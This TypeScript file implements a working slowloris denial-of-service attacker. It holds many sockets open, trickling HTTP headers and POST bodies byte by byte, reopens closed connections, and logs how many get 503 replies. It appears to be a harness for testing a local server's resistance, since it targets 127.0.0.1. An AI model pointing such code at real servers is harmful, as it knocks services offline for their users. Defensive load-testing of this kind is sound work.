/**
 * The slowloris attacker, run as its own process (each process may hold only as many sockets as its open-file limit):
 * `node --import tsx slowloris-attacker.ts PORT COUNT LOCAL_ADDRESS`. Half its connections send headers a line at a
 * time, half send a POST body a byte at a time; a connection the server closes is opened again after a second, as a
 * real attacker would. Every second it prints one JSON line: connections open now, opened (reopens included),
 * tried (distinct sockets connected at least once), answered (503 among them), closed.
 */
import { connect, type Socket } from 'node:net';

const [portArg, countArg, localAddress = '127.0.0.1'] = process.argv.slice(2);
const port = Number(portArg);
const count = Number(countArg);
/** Each socket sends its next byte or header line this often. */
const TRICKLE_MS = 5_000;
/** Connections being opened at once, so the ramp does not flood the accept queue. */
const OPENING_AT_ONCE = 256;
const REOPEN_AFTER_MS = 1_000;

const stats = { open: 0, opened: 0, tried: 0, answered: 0, answered503: 0, closed: 0, errors: 0 };
const everOpened = new Set<number>();
const sockets = new Map<number, { socket: Socket; slowBody: boolean; sent: number }>();
let opening = 0;
const waiting: number[] = [];

function open(n: number): void {
  opening += 1;
  const slowBody = n % 2 === 1;
  const socket = connect({ port, host: '127.0.0.1', localAddress });
  let connected = false;
  socket.setNoDelay(true);
  socket.on('connect', () => {
    connected = true;
    opening -= 1;
    pump();
    stats.open += 1;
    stats.opened += 1;
    if (!everOpened.has(n)) {
      everOpened.add(n);
      stats.tried = everOpened.size;
    }
    sockets.set(n, { socket, slowBody, sent: 0 });
    socket.write(slowBody
      ? `POST /newsroom/login HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 100000\r\n\r\ne`
      : `GET /?slow=${n} HTTP/1.1\r\nHost: 127.0.0.1\r\nUser-Agent: slowloris\r\n`);
  });
  socket.on('data', (chunk: Buffer) => {
    stats.answered += 1;
    if (chunk.toString('latin1', 0, 12) === 'HTTP/1.1 503') stats.answered503 += 1;
  });
  socket.on('error', () => {
    stats.errors += 1;
  });
  socket.on('close', () => {
    if (!connected) {
      opening -= 1;
      pump();
    } else {
      stats.open -= 1;
      stats.closed += 1;
    }
    sockets.delete(n);
    setTimeout(() => queue(n), REOPEN_AFTER_MS).unref();
  });
}

function pump(): void {
  while (opening < OPENING_AT_ONCE && waiting.length > 0) open(waiting.shift()!);
}

function queue(n: number): void {
  waiting.push(n);
  pump();
}

for (let n = 0; n < count; n++) waiting.push(n);
pump();

// One pass a second over a fifth of the sockets, so each trickles once every TRICKLE_MS.
let slice = 0;
setInterval(() => {
  const parts = TRICKLE_MS / 1000;
  for (const [n, entry] of sockets) {
    if (n % parts !== slice) continue;
    entry.sent += 1;
    entry.socket.write(entry.slowBody ? 'e' : `X-Slow-${entry.sent}: ${entry.sent}\r\n`);
  }
  slice = (slice + 1) % parts;
  process.stdout.write(`${JSON.stringify(stats)}\n`);
}, 1000);

process.on('SIGTERM', () => {
  for (const { socket } of sockets.values()) socket.destroy();
  process.exit(0);
});
